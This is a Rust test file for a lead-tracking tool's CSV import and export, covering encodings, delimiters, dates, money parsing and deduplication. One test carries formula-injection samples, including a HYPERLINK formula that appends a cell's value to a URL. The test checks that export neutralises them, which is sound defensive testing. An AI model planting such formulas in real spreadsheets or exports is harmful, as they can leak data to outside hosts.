//! Messy CSV files from real tools: BOM, semicolons, quoted line breaks,
//! e-mail duplicates, ambiguous dates, decimal commas and formula cells.

#[path = "import_support/mod.rs"]
mod common;

use common::{case, request, TestDb};
use leadbench::export::{export_leads, ExportOptions};
use leadbench::import::detect::{open_csv, FormatOverrides};
use leadbench::import::parse::{parse_money, DecimalMark, MoneyColumn};
use leadbench::import::{self, DateOrder, Field, ImportKind, RowProblem, Target};
use leadbench::ErrorKind;

#[test]
fn bom_header_maps_to_email() {
    let mut test = TestDb::new();
    let inspection = import::inspect(
        test.db.conn(),
        &request(ImportKind::Leads, &case("01-csv-utf8-bom.csv")),
    )
    .unwrap();
    assert_eq!(inspection.columns[0].header, "email");
    assert_eq!(inspection.columns[0].target, Target::Field(Field::Email));
    assert!(inspection.problems.is_empty());

    let report = test.import(ImportKind::Leads, &case("01-csv-utf8-bom.csv"));
    assert_eq!((report.created, report.rejected), (3, 0));
    assert_eq!(
        test.texts("SELECT email || '/' || first_name || ' ' || last_name FROM leads ORDER BY id"),
        [
            "femke.dewit@example.nl/Femke de Wit",
            "tobias.brandt@example.com/Tobias Brandt",
            "margot.lemaire@example.com/Margot Lemaire"
        ]
    );
    assert_eq!(
        test.text("SELECT job_title FROM leads WHERE email = 'margot.lemaire@example.com'"),
        "Directrice g\u{e9}n\u{e9}rale"
    );
    assert_eq!(
        test.count("SELECT COUNT(*) FROM leads WHERE email LIKE char(65279) || '%'"),
        0
    );
}

#[test]
fn own_export_with_bom_round_trips() {
    let mut first = TestDb::new();
    first.import(ImportKind::Leads, &case("01-csv-utf8-bom.csv"));
    let exported = first.path("export.csv");
    let options = ExportOptions {
        bom: true,
        ..ExportOptions::default()
    };
    assert_eq!(
        export_leads(first.db.conn(), &exported, &options)
            .unwrap()
            .rows,
        3
    );
    assert!(std::fs::read(&exported)
        .unwrap()
        .starts_with(b"\xEF\xBB\xBF"));

    let again = first.import(ImportKind::Leads, &exported);
    assert_eq!((again.created, again.updated, again.rejected), (0, 3, 0));
    assert_eq!(first.count("SELECT COUNT(*) FROM leads"), 3);

    let mut second = TestDb::new();
    let report = second.import(ImportKind::Leads, &exported);
    assert_eq!((report.created, report.rejected), (3, 0));
    let profile =
        "SELECT email || '|' || first_name || '|' || last_name || '|' || job_title || '|' || source
                   || '|' || consent || '|' || created_at FROM leads ORDER BY email";
    assert_eq!(first.texts(profile), second.texts(profile));
}

#[test]
fn semicolon_file_keeps_commas_and_quotes() {
    let mut test = TestDb::new();
    let inspection = import::inspect(
        test.db.conn(),
        &request(ImportKind::Leads, &case("02-csv-semicolon-excel.csv")),
    )
    .unwrap();
    assert_eq!(inspection.detection.format.delimiter, ';');
    assert_eq!(inspection.columns.len(), 8);

    let report = test.import(ImportKind::Leads, &case("02-csv-semicolon-excel.csv"));
    assert_eq!((report.created, report.rejected), (3, 0));
    assert_eq!(
        test.texts("SELECT l.email || '/' || a.name FROM leads l JOIN accounts a ON a.id = l.account_id ORDER BY l.id"),
        [
            "bram.hendriks@example.nl/Hendriks, Smit & Zn",
            "ilse.kramer@example.nl/Kramer; Bouw & Advies",
            "ruben.dekker@example.nl/Dekker ICT"
        ]
    );
}

#[test]
fn quoted_line_breaks_stay_in_values() {
    let mut test = TestDb::new();
    let report = test.import(ImportKind::Leads, &case("04-csv-quoted-newlines.csv"));
    assert_eq!((report.created, report.rejected), (3, 1));
    assert_eq!(report.errors[0].line, 5, "record 3 starts on line 5");
    assert_eq!(report.errors[0].column, "email");
    assert_eq!(report.errors[0].problem, RowProblem::MissingLeadKey);

    assert_eq!(
        test.text("SELECT a.name FROM leads l JOIN accounts a ON a.id = l.account_id WHERE l.first_name = 'Joris'"),
        "Claessens, Peeters & Co"
    );
    assert_eq!(
        test.text("SELECT job_title FROM leads WHERE first_name = 'Lieke'"),
        "Teamleider marketing\nregio Zuid"
    );
    assert_eq!(
        test.text("SELECT job_title FROM leads WHERE first_name = 'Noor'"),
        "Analist, \"growth\""
    );
    assert_eq!(test.count("SELECT COUNT(*) FROM leads WHERE first_name LIKE 'regio%' OR first_name LIKE 'vestiging%'"), 0);

    let again = test.import(ImportKind::Leads, &case("04-csv-quoted-newlines.csv"));
    assert_eq!((again.created, again.updated, again.rejected), (0, 3, 1));
    assert_eq!(test.count("SELECT COUNT(*) FROM leads"), 3);
}

#[test]
fn email_variants_merge_into_one_lead() {
    let mut test = TestDb::new();
    let seed = test.import(ImportKind::Leads, &case("05-email-dedup-seed.csv"));
    assert_eq!(seed.created, 1);

    let report = test.import(
        ImportKind::Leads,
        &case("05-email-dedup-case-whitespace.csv"),
    );
    assert_eq!((report.created, report.updated, report.rejected), (1, 4, 0));
    assert_eq!(test.count("SELECT COUNT(*) FROM leads"), 2);
    assert_eq!(
        test.texts("SELECT email FROM leads ORDER BY id"),
        ["femke.dewit@example.nl", "thijs.mulder@example.nl"]
    );
    assert_eq!(
        test.text("SELECT source FROM leads WHERE email = 'femke.dewit@example.nl'"),
        "webinar"
    );
    assert_eq!(
        test.text("SELECT job_title FROM leads WHERE email = 'femke.dewit@example.nl'"),
        "CMO"
    );
}

#[test]
fn email_with_inner_space_rejected() {
    let mut test = TestDb::new();
    let file = test.write(
        "inner.csv",
        b"email,name\nfemke dewit@example.nl,Femke de Wit\n",
    );
    let report = test.import(ImportKind::Leads, &file);
    assert_eq!((report.created, report.rejected), (0, 1));
    assert_eq!(report.errors[0].value, "femke dewit@example.nl");
}

#[test]
fn day_first_column_decided_by_all_values() {
    let mut test = TestDb::new();
    let inspection = import::inspect(
        test.db.conn(),
        &request(ImportKind::Leads, &case("06-date-ambiguous-ddmm.csv")),
    )
    .unwrap();
    let date_column = inspection
        .columns
        .iter()
        .find(|c| c.header == "first_touch_date")
        .unwrap();
    assert_eq!(date_column.target, Target::Field(Field::CreatedAt));
    assert_eq!(
        date_column.date,
        Some(import::DateDecision::Order(DateOrder::Dmy))
    );

    let report = test.import(ImportKind::Leads, &case("06-date-ambiguous-ddmm.csv"));
    assert_eq!((report.created, report.rejected), (3, 0));
    let dates: Vec<String> = test
        .texts("SELECT first_name || ' ' || date(created_at, 'unixepoch') FROM leads ORDER BY id");
    assert_eq!(
        dates,
        ["Koen 2024-04-03", "Eva 2024-03-12", "Jesse 2024-02-28"]
    );
}

#[test]
fn all_ambiguous_dates_need_a_choice() {
    let mut test = TestDb::new();
    let file = test.write(
        "ambiguous.csv",
        b"name,email,first_touch_date\nKoen Verhoeven,koen@example.nl,03/04/2024\nEva Peeters,eva@example.nl,12/03/2024\n",
    );
    let inspection = import::inspect(test.db.conn(), &request(ImportKind::Leads, &file)).unwrap();
    assert_eq!(inspection.problems.len(), 1);
    assert!(
        inspection.problems[0].contains("first_touch_date"),
        "{}",
        inspection.problems[0]
    );

    let error = import::run(
        &mut test.db,
        &request(ImportKind::Leads, &file),
        &mut Default::default(),
    )
    .unwrap_err();
    assert_eq!(error.kind(), ErrorKind::InvalidInput);
    assert!(error.to_string().contains("--date-order"), "{error}");
    assert_eq!(test.count("SELECT COUNT(*) FROM leads"), 0);

    let mut chosen = request(ImportKind::Leads, &file);
    chosen.date_order = Some(DateOrder::Mdy);
    test.run(&chosen);
    assert_eq!(
        test.texts("SELECT date(created_at, 'unixepoch') FROM leads ORDER BY id"),
        ["2024-03-04", "2024-12-03"]
    );
}

/// Rejected rows name the line they start on in the file, whatever the
/// line ends, blank lines and line breaks inside quoted cells.
#[test]
fn rejected_rows_cite_file_lines() {
    let body = "email,notes\nb1@,x\nb2@,x\nb3@,\"p\nq\"\nb4@,x\n\nb5@,x\n";
    let variants = [
        ("lf.csv", body.to_owned()),
        ("crlf.csv", body.replace('\n', "\r\n")),
        // Excel: CRLF between records, a bare LF inside a quoted cell.
        (
            "excel.csv",
            body.replace('\n', "\r\n").replace("p\r\nq", "p\nq"),
        ),
    ];
    for (name, text) in variants {
        let mut test = TestDb::new();
        let file = test.write(name, text.as_bytes());
        let report = test.import(ImportKind::Leads, &file);
        let lines: Vec<u64> = report.errors.iter().map(|error| error.line).collect();
        assert_eq!(lines, [2, 3, 4, 6, 8], "{name}");
    }
}

#[test]
fn impossible_date_rejected_not_rolled_over() {
    let mut test = TestDb::new();
    let file = test.write(
        "dates.csv",
        b"email,created\na@example.nl,31-04-2024\nb@example.nl,3-4-2024\nc@example.nl,28-02-2024\n",
    );
    let report = test.import(ImportKind::Leads, &file);
    assert_eq!((report.created, report.rejected), (2, 1));
    assert_eq!(report.errors[0].line, 2);
    assert_eq!(report.errors[0].value, "31-04-2024");
    assert_eq!(
        test.text("SELECT date(created_at, 'unixepoch') FROM leads WHERE email = 'b@example.nl'"),
        "2024-04-03"
    );
}

fn cost_cells() -> Vec<String> {
    let path = case("08-decimal-comma-cost.csv");
    let detection = leadbench::import::detect::detect(&path, &FormatOverrides::default()).unwrap();
    assert_eq!(detection.format.delimiter, ';');
    let mut reader = open_csv(&path, &detection.format).unwrap();
    reader
        .records()
        .skip(1)
        .map(|record| record.unwrap()[2].to_owned())
        .collect()
}

#[test]
fn decimal_comma_amounts_in_cents() {
    let cells = cost_cells();
    let mut column = MoneyColumn::default();
    for cell in &cells {
        column.add(cell);
    }
    let decision = column.decide(None, DecimalMark::Point);
    assert_eq!(decision.decimal_mark, DecimalMark::Comma);
    let cents: Vec<i64> = cells
        .iter()
        .map(|cell| parse_money(cell, decision.decimal_mark).unwrap().unwrap())
        .collect();
    assert_eq!(cents, [123_456, 100_000, 8_990, 25_000, 200_000]);
    assert_eq!(cents.iter().sum::<i64>(), 457_446);
    // Cost per lead over 20 leads, rounded half up to cents.
    assert_eq!((457_446 + 10) / 20, 22_872);
}

#[test]
fn decimal_comma_rejected_under_point() {
    let cells = cost_cells();
    let rejected: Vec<&String> = cells
        .iter()
        .filter(|cell| parse_money(cell, DecimalMark::Point).is_err())
        .collect();
    // 89,9 is no amount with a decimal point either (never 899).
    assert_eq!(rejected, ["1.234,56", "89,9", "\u{20ac} 2.000,00"]);
    assert_eq!(parse_money("1.000", DecimalMark::Point), Ok(Some(100)));
}

#[test]
fn deal_values_with_decimal_comma() {
    let mut test = TestDb::new();
    let leads = test.write(
        "leads.csv",
        b"email\na@example.nl\nb@example.nl\nc@example.nl\n",
    );
    test.import(ImportKind::Leads, &leads);
    let outcomes = test.write(
        "deals.csv",
        "email;won date;deal value\na@example.nl;2024-03-01;1.234,56\nb@example.nl;2024-03-02;1.000\nc@example.nl;2024-03-03;\u{20ac} 89,9\n"
            .as_bytes(),
    );
    let report = test.import(ImportKind::Outcomes, &outcomes);
    assert_eq!((report.created, report.rejected), (3, 0));
    assert_eq!(
        test.texts("SELECT CAST(value_cents AS TEXT) FROM deals ORDER BY won_at"),
        ["123456", "100000", "8990"]
    );
}

#[test]
fn formula_cells_stored_raw_and_exported_guarded() {
    let mut test = TestDb::new();
    let report = test.import(
        ImportKind::Leads,
        &case("10-csv-export-formula-injection.csv"),
    );
    assert_eq!((report.created, report.rejected), (5, 0));
    assert_eq!(
        test.text("SELECT first_name FROM leads WHERE email = 'hyper.link@example.com'"),
        "=HYPERLINK(\"http://example.com/?d=\"&B2,\"Open\")"
    );
    assert_eq!(
        test.text("SELECT a.name FROM leads l JOIN accounts a ON a.id = l.account_id WHERE l.email = 'ties.jacobs@example.nl'"),
        "\t=1+1"
    );

    let exported = test.path("export.csv");
    export_leads(test.db.conn(), &exported, &ExportOptions::default()).unwrap();
    let text = std::fs::read_to_string(&exported).unwrap();
    for guarded in [
        "\"'=HYPERLINK(\"\"http://example.com/?d=\"\"&B2,\"\"Open\"\")\"",
        ",'@SUM(1+1),",
        ",'+1-2,",
        ",'-2+3,",
        ",\"'\t=1+1\",",
    ] {
        assert!(text.contains(guarded), "{guarded:?} missing in\n{text}");
    }
    let control = text
        .lines()
        .find(|line| line.contains("anna.smit@example.nl"))
        .unwrap();
    assert!(
        control.contains(",Anna,Smit,,Head of Sales,Smit & Co,"),
        "{control}"
    );
    assert!(!control.contains('\''), "{control}");
    assert!(
        control.contains(",new,15,yes,"),
        "score (fit points of a Head of Sales) and consent unquoted: {control}"
    );

    let mut second = TestDb::new();
    second.import(ImportKind::Leads, &exported);
    let exported_again = second.path("export-again.csv");
    export_leads(second.db.conn(), &exported_again, &ExportOptions::default()).unwrap();
    assert_eq!(std::fs::read_to_string(&exported_again).unwrap(), text);
}

#[test]
fn legacy_encodings_and_dutch_headers() {
    let mut test = TestDb::new();
    let latin = test.write(
        "latin.csv",
        b"Voornaam;Achternaam;E-mail;Bedrijf;Functie\r\nRen\xe9;Caf\xe9;rene@example.nl;Cr\xe8me B.V.;Eigenaar\r\n",
    );
    let inspection = import::inspect(test.db.conn(), &request(ImportKind::Leads, &latin)).unwrap();
    assert_eq!(inspection.detection.format.encoding, "windows-1252");
    let targets: Vec<&Target> = inspection.columns.iter().map(|c| &c.target).collect();
    assert_eq!(
        targets,
        [
            &Target::Field(Field::FirstName),
            &Target::Field(Field::LastName),
            &Target::Field(Field::Email),
            &Target::Field(Field::Company),
            &Target::Field(Field::JobTitle)
        ]
    );
    let report = test.import(ImportKind::Leads, &latin);
    assert_eq!(report.created, 1);
    assert_eq!(
        test.text("SELECT l.first_name || ' ' || l.last_name || ', ' || a.name FROM leads l JOIN accounts a ON a.id = l.account_id"),
        "Ren\u{e9} Caf\u{e9}, Cr\u{e8}me B.V."
    );

    let mut utf16 = vec![0xFF, 0xFE];
    for unit in "Email Address\tFull Name\nzoe@example.nl\tZo\u{eb} Mulder\n".encode_utf16() {
        utf16.extend_from_slice(&unit.to_le_bytes());
    }
    let wide = test.write("wide.csv", &utf16);
    let report = test.import(ImportKind::Leads, &wide);
    assert_eq!(report.created, 1);
    assert_eq!(
        test.text(
            "SELECT first_name || ' ' || last_name FROM leads WHERE email = 'zoe@example.nl'"
        ),
        "Zo\u{eb} Mulder"
    );
}

#[test]
fn custom_cells_and_notes_become_one_json_object() {
    let mut test = TestDb::new();
    let file = test.write(
        "custom.csv",
        "email,Zone,Notes,Beurs \"stand\"\nanna@example.nl,Noord,bel terug,\"B\\12\"\nbram@example.nl,,,\n"
            .as_bytes(),
    );
    let report = test.import(ImportKind::Leads, &file);
    assert_eq!((report.created, report.rejected), (2, 0));
    assert_eq!(
        test.texts("SELECT custom_fields FROM leads ORDER BY id"),
        [
            r#"{"Beurs \"stand\"":"B\\12","Zone":"Noord","notes":"bel terug"}"#,
            "{}"
        ]
    );
}

/// Imported leads and events are scored in the import's own transaction,
/// so a full recomputation afterwards finds nothing to change.
#[test]
fn imports_score_their_leads() {
    let mut test = TestDb::new();
    let leads = test.write(
        "leads.csv",
        b"email,job_title,company\n\
          spy@competitor.example,Analyst,Competitor\n\
          anna@acme.example,CEO,Acme\n\
          piet@acme.example,Intern,Acme\n",
    );
    let report = test.import(ImportKind::Leads, &leads);
    assert_eq!(report.created, 3);
    assert_eq!(
        test.text("SELECT stage FROM leads WHERE email = 'spy@competitor.example'"),
        "disqualified"
    );
    assert!(
        test.count("SELECT score > 0 FROM leads WHERE email = 'anna@acme.example'") == 1,
        "a CEO gets fit points"
    );

    let activity = test.write(
        "activity.csv",
        b"email,event_type,occurred_at\n\
          piet@acme.example,demo_request,2024-05-01\n\
          piet@acme.example,whitepaper_download,2024-05-02\n",
    );
    let report = test.import(ImportKind::Activity, &activity);
    assert_eq!(report.created, 2);

    let now = leadbench::time::now();
    let again = leadbench::scoring::recompute(&mut test.db, now).unwrap();
    assert_eq!(again.leads, 3);
    assert_eq!(again.changed, 0, "{again:?}");
}

/// A lead imported without an e-mail address is found by its external id.
#[test]
fn lead_found_by_external_id() {
    let mut test = TestDb::new();
    let file = test.write(
        "crm.csv",
        b"external_id,first_name\nb91cf8812365f50ff4bda4bcd6206b05,Anna\n",
    );
    let report = test.import(ImportKind::Leads, &file);
    assert_eq!(report.created, 1);
    let id = leadbench::scoring::explain::find_lead(
        test.db.conn(),
        " b91cf8812365f50ff4bda4bcd6206b05 ",
    )
    .unwrap();
    assert_eq!(id, test.count("SELECT id FROM leads"));
    let missing = leadbench::scoring::explain::find_lead(test.db.conn(), "no-such-id");
    assert!(missing.is_err());
}
